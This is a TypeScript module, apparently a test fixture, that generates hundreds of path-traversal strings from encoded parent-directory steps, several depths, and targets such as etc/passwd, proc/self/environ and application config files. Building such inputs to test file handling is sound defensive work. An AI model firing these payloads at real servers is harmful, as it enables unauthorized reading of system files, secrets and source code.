/**
 * Ways to ask for a file that is none of the caller's business: steps upwards in every spelling,
 * so many of them, to what one would like to read.
 */
const STEPS = [
  '../',
  '..\\',
  '..%2f',
  '..%2F',
  '..%5c',
  '%2e%2e/',
  '%2e%2e%2f',
  '%2E%2E%5C',
  '.%2e/',
  '%252e%252e%252f',
  '..%252f',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '..%u2215',
  '....//',
  '..;/',
  '..%00/',
  './../',
]

const DEPTHS = [1, 3, 7]

const TARGETS = [
  'etc/passwd',
  'etc%2fpasswd',
  'etc/passwd%00.json',
  'proc/self/environ',
  'proc/self/cwd/config.json',
  'windows/win.ini',
  'package.json',
  'config.json',
  'data',
  'src/server/main.ts',
]

export const TRAVERSALS: readonly string[] = STEPS.flatMap((step) =>
  DEPTHS.flatMap((depth) => TARGETS.map((target) => step.repeat(depth) + target)),
)
